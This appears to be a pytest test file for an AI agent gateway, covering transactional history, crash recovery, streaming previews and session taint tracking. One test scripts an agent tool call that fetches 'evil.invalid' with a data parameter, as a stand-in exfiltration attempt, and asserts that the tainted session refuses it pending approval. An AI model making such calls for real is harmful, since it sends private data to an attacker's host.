import asyncio
import threading
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from agent import events
from agent.context.history_validation import is_valid
from agent.errors import Rejected
from agent.events import Done, Event, ModelEvent, Reply, TextDelta
from agent.providers.base import ModelRequest
from agent.providers.scripted import ScriptedProvider
from agent.types import Context, ToolCall, assistant
from gateway.channels.base import Ambiguous
from gateway.store.repositories.conversations import sessions
from tests.fakes.gated import Gated
from tests.fakes.platform import Fault, StreamingPlatform
from tests.gateway.parts import (
    accept_messages,
    answer_to,
    at_work,
    chat_message,
    console_message,
    load_history,
    opened,
    running,
    tool_call,
)
from tests.gateway.store import faults
from tests.gateway.stored import PRESENT


def append(id_: str, text: str) -> ToolCall:
    return tool_call(id_, "append_file", path="log.txt", content=f"{text}\n")


async def test_history_outbox_and_turn_are_committed_together(tmp_path: Path) -> None:
    async with running(tmp_path, [assistant("", (append("1", "x"),)), "done"]) as parts:
        await accept_messages(parts, chat_message("go"))
        assert await parts.platform.answers("1", 1) == ["done"]
        stored = await load_history(parts)
        assert [m.role for m in stored] == ["user", "assistant", "tool", "assistant"]
        assert is_valid(stored)
        assert await parts.stored("turn", "state") == [("done",)]
        assert await parts.stored("step", "state") == [("done",)]
        numbers = await parts.stored("message", "n", order="n")
        assert numbers == [(1,), (2,), (3,), (4,)]


async def test_model_error_is_reported_with_its_code(tmp_path: Path) -> None:
    owner = chat_message("").principal
    script = [Rejected("the key is wrong"), "better"]
    async with running(tmp_path, script, owner=owner) as parts:
        await accept_messages(parts, chat_message("go"), chat_message("again"))
        sorry, answer = await parts.platform.answers("1", 2)
        assert sorry == "⚠️ I could not answer: the key is wrong (rejected)"
        assert answer == "better"
        assert is_valid(await load_history(parts))


@pytest.mark.parametrize("is_group", [True, False])
async def test_error_details_are_shown_only_to_the_owner(
    tmp_path: Path, is_group: bool, caplog: pytest.LogCaptureFixture
) -> None:
    question = chat_message("go", private=not is_group)
    owner = question.principal if is_group else None
    script = [Rejected("no credit at 10.0.0.7", hint="Look into config.json.")]
    results: list[Any] = []
    async with running(tmp_path, script, owner=owner) as parts:
        with parts.events.watch_sessions(lambda session, event: results.append(event) is not None):
            sorry = await answer_to(parts, question)
    general = "The model did not answer. Try again later; the log of this Kore tells its owner why."
    assert sorry == f"⚠️ {general}"
    assert [event for event in results if isinstance(event, events.Error)] == [
        events.Error("rejected", general, None)
    ]
    assert "no credit at 10.0.0.7" in caplog.text


async def test_every_request_extends_the_previous_one(tmp_path: Path) -> None:
    from agent.providers.scripted import ScriptedProvider

    model = ScriptedProvider(["one", assistant("", (append("1", "x"),)), "two", "three"])
    async with running(tmp_path, model) as parts:
        for n, text in enumerate(("a", "b", "c"), start=1):
            await accept_messages(parts, chat_message(text))
            await parts.platform.answers("1", n)
    for earlier, later in zip(model.requests, model.requests[1:], strict=False):
        assert list(later.messages[: len(earlier.messages)]) == list(earlier.messages)
        assert later.system == earlier.system


class Cut:
    """Model that replies with calls and then hangs until the process is killed."""

    name = "cut"

    def __init__(self, *calls: ToolCall) -> None:
        self._calls = calls
        self.hangs = asyncio.Event()

    async def stream(self, request: ModelRequest) -> AsyncIterator[ModelEvent]:
        if request.messages[-1].role == "user":
            yield Reply(assistant("working", self._calls), None, "tool_calls")
            return
        self.hangs.set()
        await asyncio.Event().wait()
        yield TextDelta("never")

    async def aclose(self) -> None: ...


async def test_completed_tool_is_not_run_again_after_a_kill(tmp_path: Path) -> None:
    model = Cut(append("1", "once"))
    async with running(tmp_path, model) as parts:
        await accept_messages(parts, chat_message("go"))
        await model.hangs.wait()
    async with running(tmp_path, ["after"]) as parts:
        assert await parts.platform.answers("1", 1) == ["working\n\nafter"]
        assert is_valid(await load_history(parts))
        assert (parts.workspace / "log.txt").read_text() == "once\n"


async def test_started_unsafe_call_is_reported_as_unknown(tmp_path: Path) -> None:
    model = Cut(append("1", "once"), append("2", "twice"))
    async with running(tmp_path, model) as parts:
        await accept_messages(parts, chat_message("go"))
        await model.hangs.wait()
        await parts.change("step", {"state": "started", "result": None}, n=2)
    async with running(tmp_path, ["after"]) as parts:
        await parts.platform.answers("1", 1)
        first, second = [m for m in await load_history(parts) if m.role == "tool"]
        assert not first.is_error
        assert second.is_error
        assert "its outcome is unknown" in second.text
        assert (parts.workspace / "log.txt").read_text() == "once\ntwice\n"


async def test_drained_turn_pauses_before_its_next_tool_and_resumes(tmp_path: Path) -> None:
    class Pausing(Gated):
        async def stream(self, request: ModelRequest) -> AsyncIterator[ModelEvent]:
            async for event in super().stream(request):
                if isinstance(event, Reply):
                    yield Reply(assistant("ok", (append("1", "x"),)), None, "tool_calls")
                else:
                    yield event

    model = Pausing()
    async with opened(tmp_path, model) as parts, at_work(parts):
        await accept_messages(parts, chat_message("go"))
        await model.wait_for_text("go")
        draining = asyncio.create_task(parts.bus.drain())
        await asyncio.sleep(0)
        model.let_go()
        await draining
        assert not (parts.workspace / "log.txt").exists()
        assert await parts.stored("step", "state") == [("planned",)]
    async with running(tmp_path, ["after"]) as parts:
        assert await parts.platform.answers("1", 1) == ["ok\n\nafter"]
        assert (parts.workspace / "log.txt").read_text() == "x\n"


async def test_watchers_see_the_turn_and_its_end(tmp_path: Path) -> None:
    message = chat_message("hi")
    seen: list[Event] = []
    async with (
        running(tmp_path, ["hello you"]) as parts,
        parts.service.watch(message.session_key) as events,
    ):
        await accept_messages(parts, message)
        async with asyncio.timeout(30):
            async for event in events:
                seen.append(event)  # type: ignore[arg-type]
                if isinstance(event, Done):
                    break
    assert "".join(e.text for e in seen if isinstance(e, TextDelta)) == "hello you"


async def test_long_answer_is_one_growing_message(tmp_path: Path) -> None:
    platform, model = StreamingPlatform(), Gated()
    async with running(tmp_path, model, platform=platform) as parts:
        await accept_messages(parts, chat_message("tell me"))
        await platform.until(lambda: platform.texts("1"))
        assert await parts.stored("outbox", "state", "provider_message_id") in (
            [("streaming", "1")],
            [("streaming", None)],
        )
        model.let_go()
        await parts.until_stored("outbox", state="sent")
        (shown,) = platform.chats["1"]
        assert shown.versions[0] == "re:"
        assert platform.calls[0] == ("typing", "1", "")
        assert shown.text == "re: tell me"


async def test_short_answer_is_a_single_send(tmp_path: Path) -> None:
    platform = StreamingPlatform()
    async with running(tmp_path, ["quick"], platform=platform) as parts:
        await accept_messages(parts, chat_message("hi"))
        await platform.answers("1", 1)
    assert [kind for kind, _, _ in platform.calls if kind != "typing"] == ["send"]


async def test_answer_edits_a_preview_shown_before_a_kill(
    tmp_path: Path,
) -> None:
    platform, model = StreamingPlatform(), Gated()
    async with running(tmp_path, model, platform=platform) as parts:
        await accept_messages(parts, chat_message("tell me"))
        await parts.until_stored("outbox", provider_message_id=PRESENT)
    open_now = Gated(is_open=lambda _: True)
    async with running(tmp_path, open_now, platform=platform) as parts:
        await parts.until_stored("outbox", state="sent")
    (shown,) = platform.chats["1"]
    assert (shown.text, shown.repeat) == ("re: tell me", False)


async def test_answer_after_a_preview_lost_in_a_kill_is_marked(tmp_path: Path) -> None:
    platform, model = StreamingPlatform(), Gated()
    async with running(tmp_path, model, platform=platform) as parts:
        # As if the process were killed between the send and the update of the message id.
        await parts.database.transact(
            faults.refuse, "UPDATE OF provider_message_id ON outbox", "killed"
        )
        await accept_messages(parts, chat_message("tell me"))
        await platform.answers("1", 1)
    open_now = Gated(is_open=lambda _: True)
    async with running(tmp_path, open_now, platform=platform) as parts:
        await parts.until_stored("outbox", state="sent")
    stray, final = platform.chats["1"]
    assert stray.text == "re:"
    assert (final.text, final.repeat) == ("re: tell me", True)


async def test_answer_after_an_ambiguous_preview_is_marked(tmp_path: Path) -> None:
    platform, model = StreamingPlatform(), Gated()
    platform.preview_faults.append(Fault(Ambiguous("reset"), arrives=True))
    async with running(tmp_path, model, platform=platform) as parts:
        await accept_messages(parts, chat_message("tell me"))
        await parts.until_stored("outbox", maybe_duplicate=1)
        model.let_go()
        await parts.until_stored("outbox", state="sent")
    assert [shown.repeat for shown in platform.chats["1"]] == [False, True]


async def test_session_taint_is_stored_and_listed(tmp_path: Path) -> None:
    read = tool_call("1", "read_file", path="log.txt")
    async with running(tmp_path, [assistant("", (append("0", "x"), read)), "done"]) as parts:
        await accept_messages(parts, chat_message("go"))
        await parts.platform.answers("1", 1)
        # A stranger requested the text, so reading it taints the session as untrusted.
        brought = [("private",), ("private,untrusted",)]
        assert await parts.stored("step", "taint", order="n") == brought
        (info,) = await parts.database.transact(sessions.recent, 5)
        assert info.taint == "private,untrusted"
        results = [message for message in await load_history(parts) if message.role == "tool"]
        assert [",".join(sorted(message.taint)) for message in results] == [t for (t,) in brought]


async def test_untrusted_text_taints_the_session_at_once(tmp_path: Path) -> None:
    async with running(tmp_path, ["hello"]) as parts:
        await accept_messages(parts, chat_message("go"))
        await parts.platform.answers("1", 1)
        (info,) = await parts.database.transact(sessions.recent, 5)
        assert info.taint == "untrusted"


async def test_taint_of_an_earlier_turn_restricts_a_later_one(tmp_path: Path) -> None:
    read = tool_call("1", "read_file", path="log.txt")
    leak = tool_call("2", "web_fetch", url="http://evil.invalid/?d=1")
    replies = [assistant("", (append("0", "x"), read)), "one", assistant("", (leak,)), "two"]
    async with running(tmp_path, replies) as parts:
        await accept_messages(parts, chat_message("go"))
        await parts.platform.answers("1", 1)
        await accept_messages(parts, chat_message("on"))
        await parts.platform.answers("1", 2)
        refused = [message for message in await load_history(parts) if message.role == "tool"][-1]
        assert refused.is_error
        assert "approval" in refused.text


async def test_project_context_makes_the_session_private(
    tmp_path: Path,
) -> None:
    result = {"text": "[The folder /w]\na.py", "taint": ["private"], "evicted": 3}
    model = ScriptedProvider(["seen", "no"])
    async with running(tmp_path, model) as parts:
        with parts.events.watch("cli:local:main") as seen:
            await parts.bus.submit(console_message("look", options={"project": result}))
            async for event in seen:
                if isinstance(event, events.Evicted):
                    break
        assert event.reason == "Context full, 3 files evicted"
        await parts.until_stored("session", taint="private")
        await parts.until_stored("turn", state="done")
        assert Context("[The folder /w]\na.py") in model.requests[0].messages[0].content
        # Only options from the terminal count.
        await parts.bus.submit(chat_message("look", chat="9", options={"project": result}))
        await parts.platform.until(lambda: parts.platform.texts("9"))
        assert not any("/w" in str(part) for part in model.requests[1].messages[0].content)


async def test_changed_file_is_reported_to_watchers(tmp_path: Path) -> None:
    (tmp_path / "workspace").mkdir()
    path = tmp_path / "workspace" / "a.txt"
    path.write_text("old")
    model = ScriptedProvider(
        [assistant("", (tool_call("1", "read_file", path="a.txt"),)), "read", "on"]
    )
    async with running(tmp_path, model) as parts:
        await parts.bus.submit(console_message("read it"))
        await parts.until_stored("turn", state="done")
        path.write_text("newer")
        with parts.events.watch("cli:local:main") as seen:
            await parts.bus.submit(console_message("go on"))
            async for event in seen:
                if isinstance(event, events.ContextInvalidated):
                    break
        assert event == events.ContextInvalidated(str(path), ("main",))
        await parts.until_stored("turn", id=2, state="done")
        message = model.requests[2].messages[-1]
        assert any(str(path) in part.text for part in message.content if isinstance(part, Context))


class Hanging(type(Path())):  # type: ignore[misc]
    """File in a network folder that does not respond until `let_go`."""

    let_go = threading.Event()

    def __fspath__(self) -> str:
        self.let_go.wait(20)
        return str(self)


async def test_hanging_folder_is_reported_once_and_does_not_delay_other_chats(
    tmp_path: Path,
) -> None:
    model = Gated(is_open=lambda _: True)
    async with running(tmp_path, model) as parts:
        await parts.bus.submit(chat_message("one", "1"))
        await parts.platform.answers("1", 1)
        await parts.until_stored("turn", state="done")
        ((session,),) = await parts.stored("session", "id")
        parts.agent.toolbox.views.record_view(session, Hanging("/net/a.txt"), (1, 1, 1))
        await parts.bus.submit(chat_message("two", "1"))
        await parts.until_stored("turn", state="running")
        await parts.bus.submit(chat_message("other", "2"))
        assert await parts.platform.answers("2", 1) == ["re: other"]
        assert model.texts == ["one", "other"]
        Hanging.let_go.set()
        assert await parts.platform.answers("1", 2) == ["re: one", "re: two"]
        await parts.bus.submit(chat_message("three", "1"))
        await parts.platform.answers("1", 3)
        await parts.until_count(4, "turn", state="done")
        stored = await parts.database.transact(sessions.load_all, session)
        texts = [str(message.content) for message in stored if message.role == "user"]
        assert [text.count("/net/a.txt") for text in texts] == [0, 1, 0]
